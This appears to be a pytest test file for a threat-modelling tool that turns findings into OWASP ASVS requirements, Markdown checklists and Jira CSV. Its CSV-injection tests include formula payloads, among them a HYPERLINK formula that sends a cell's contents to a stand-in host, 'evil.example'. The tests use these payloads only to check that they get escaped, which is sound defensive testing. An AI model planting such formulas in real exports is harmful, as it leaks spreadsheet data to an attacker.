"""``threatforge requirements``: ASVS controls and tasks per component, as Markdown and Jira CSV."""

from __future__ import annotations

import csv
import dataclasses
import io
from pathlib import Path

import pytest
from sdlc_models import BACKDOOR, ORDERS, ORDERS_WITH_BACKDOOR, TODAY, Invoke

from threatforge.model import Model, load_text
from threatforge.rules import Assessment, analyze
from threatforge.sdlc.requirements import (
    JIRA_COLUMNS,
    SYSTEM,
    ComponentRequirements,
    Control,
    Task,
    build_requirements,
    owner_of,
    render_requirements_csv,
    render_requirements_markdown,
)
from threatforge.text.csv import neutralise

AUTHENTICATE = (
    "Authenticate the caller on this flow (OAuth2/OIDC tokens validated at the gateway, mTLS "
    "between services, SigV4/IAM for AWS APIs)."
)
SAY_PUBLIC = "If the target is meant to be public, say so (exposure: public) and rate-limit it."


def requirements_of(text: str) -> tuple[tuple[ComponentRequirements, ...], Assessment, Model]:
    model = load_text(text)
    assessment = analyze(model, today=TODAY)
    return build_requirements(assessment, model), assessment, model


def test_a_flow_finding_belongs_to_the_flow_target() -> None:
    items, _, _ = requirements_of(ORDERS_WITH_BACKDOOR)
    assert [(i.component, i.kind, i.priority.value) for i in items] == [
        ("orders", "service", "high")
    ]
    (item,) = items
    assert item.controls == (Control("V2.1", (BACKDOOR,)), Control("V4.1.1", (BACKDOOR,)))
    assert item.tasks == (Task(AUTHENTICATE, (BACKDOOR,)), Task(SAY_PUBLIC, (BACKDOOR,)))


def test_findings_on_data_or_the_model_belong_to_the_system() -> None:
    _, assessment, model = requirements_of(ORDERS_WITH_BACKDOOR)
    finding = assessment.findings[0]
    assert owner_of(finding, model) == "orders"
    assert owner_of(dataclasses.replace(finding, elements=("order",)), model) == SYSTEM
    assert owner_of(dataclasses.replace(finding, elements=("gateway", "x")), model) == "gateway"


def test_markdown_definition_of_done() -> None:
    items, assessment, _ = requirements_of(ORDERS_WITH_BACKDOOR)
    assert render_requirements_markdown(items, assessment) == (
        "# Security requirements: Orders\n"
        "\n"
        "Derived from 1 open threat (as of 2026-01-01). Each section is the definition of done "
        "for the component's security work: implement the tasks, verify the OWASP ASVS controls, "
        "then re-run threatforge (or record the decision under `tracking:`).\n"
        "\n"
        "## `orders` (service)\n"
        "\n"
        "Priority: **high** (1 open threat)\n"
        "\n"
        "**OWASP ASVS controls to verify** "
        "([ASVS](https://owasp.org/www-project-application-security-verification-standard/))\n"
        "\n"
        f"- [ ] V2.1 — for `{BACKDOOR}`\n"
        f"- [ ] V4.1.1 — for `{BACKDOOR}`\n"
        "\n"
        "**Tasks**\n"
        "\n"
        f"- [ ] {AUTHENTICATE} — addresses `{BACKDOOR}`\n"
        f"- [ ] {SAY_PUBLIC} — addresses `{BACKDOOR}`\n"
        "\n"
        "**Threats**\n"
        "\n"
        "| severity | threat | fingerprint |\n"
        "|---|---|---|\n"
        "| high | Unauthenticated flow into a more trusted zone: customer-&gt;orders | "
        f"`{BACKDOOR}` |\n"
    )


def test_nothing_to_do_for_a_secure_model() -> None:
    items, assessment, _ = requirements_of(ORDERS)
    assert items == ()
    assert "No open threats: nothing to do." in render_requirements_markdown(items, assessment)


def test_jira_csv() -> None:
    items, _, _ = requirements_of(ORDERS_WITH_BACKDOOR)
    rows = list(csv.reader(io.StringIO(render_requirements_csv(items), newline="")))
    assert rows[0] == list(JIRA_COLUMNS)
    assert len(rows) == 2
    summary, description, component, priority, labels = rows[1]
    assert summary == "[orders] Unauthenticated flow into a more trusted zone: customer->orders"
    assert (component, priority) == ("orders", "High")
    assert labels == (
        "threatforge unauthenticated-boundary-crossing stride-spoofing "
        "stride-elevation-of-privilege asvs-V2.1 asvs-V4.1.1"
    )
    assert description.splitlines()[-9:] == [
        "Definition of done:",
        f"* {AUTHENTICATE}",
        f"* {SAY_PUBLIC}",
        "* OWASP ASVS V2.1 verified",
        "* OWASP ASVS V4.1.1 verified",
        "* threatforge no longer reports the finding, or `tracking:` records the decision",
        "",
        "Rule: unauthenticated-boundary-crossing (CWE-306, CAPEC-151)",
        f"threatforge fingerprint: {BACKDOOR}",
    ]


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_formula_injection_is_neutralised(cell: str, safe: str) -> None:
    assert neutralise(cell) == safe


PACK = """\
pack: hostile
rules:
  - id: formula-rule
    title: "{element} has a formula"
    description: '=HYPERLINK("http://evil.example/?"&A1, "click")'
    target: component
    when: {kind: service}
    likelihood: 5
    impact: 5
    cwe: [1236]
    stride: [tampering]
    mitigations: ['@SUM(1+1)']
"""


def test_the_command_writes_quoted_neutralised_csv(invoke: Invoke, folder: Path) -> None:
    (folder / "threatmodel.yaml").write_text(ORDERS, encoding="utf-8")
    (folder / "pack.yaml").write_text(PACK, encoding="utf-8")
    result = invoke(
        "requirements",
        "threatmodel.yaml",
        "--rules",
        "pack.yaml",
        "-f",
        "csv",
        "-o",
        "jira.csv",
        "--min-severity",
        "critical",
    )
    assert result.exit_code == 0, result.stderr
    text = (folder / "jira.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert [row[0] for row in rows] == ["Summary", "[orders] orders has a formula"]
    assert rows[1][1].startswith('\'=HYPERLINK("http://evil.example/?"&A1, "click")\n')
    assert "* @SUM(1+1)" in rows[1][1]
    assert rows[1][2:] == ["orders", "Highest", "threatforge formula-rule stride-tampering"]


def test_the_command_prints_markdown(invoke: Invoke, folder: Path) -> None:
    (folder / "threatmodel.yaml").write_text(ORDERS_WITH_BACKDOOR, encoding="utf-8")
    result = invoke("requirements", "threatmodel.yaml", "--today", "2026-01-01")
    assert result.exit_code == 0
    assert result.stdout.startswith("# Security requirements: Orders\n")
    assert "## `orders` (service)\n" in result.stdout
    assert invoke("requirements", "missing.yaml").exit_code == 2
